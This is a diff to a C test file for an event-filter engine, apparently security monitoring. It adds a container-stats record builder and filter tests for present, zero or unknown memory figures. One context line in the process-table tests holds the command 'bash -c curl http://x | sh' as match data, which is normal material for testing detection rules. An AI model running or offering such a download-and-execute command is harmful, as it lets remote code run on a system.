@@ -97,6 +97,15 @@ static void make_exec(struct record *r)
 	r->process_exec.argv_size = 5000;
 }
 
+static void make_stats(struct record *r)
+{
+	struct event_container_stats *e = (void *)r->bytes;
+
+	record_begin(r, EVENT_container_stats);
+	e->memory_usage = 3 << 20;
+	e->memory_limit = FIGURE_UNKNOWN;
+}
+
 static void make_exit(struct record *r)
 {
 	record_begin(r, EVENT_process_exit);
@@ -253,6 +262,10 @@ static const struct { make *make; bool want; const char *text; } rows[] = {
 	{ make_exec, false, "args.argv != -c" },
 	{ make_exec, true, "args.argv exists" },
 	{ make_exec, false, "args.envp exists" },
+	/* Figures that are there, are 0, or are unknown. */
+	{ make_stats, true, "args.memory_usage >= 3M and args.memory_usage exists" },
+	{ make_stats, true, "args.oom_kills = 0 and args.oom_kills exists" },
+	{ make_stats, false, "args.memory_limit exists or args.memory_limit > 0 or args.memory_limit != 1" },
 	/* The process table. */
 	{ record_openat, true, "proc.exe = /usr/bin/bash and proc.exepath endswith bash" },
 	{ record_openat, true, "proc.cmdline = 'bash -c curl http://x | sh'" },
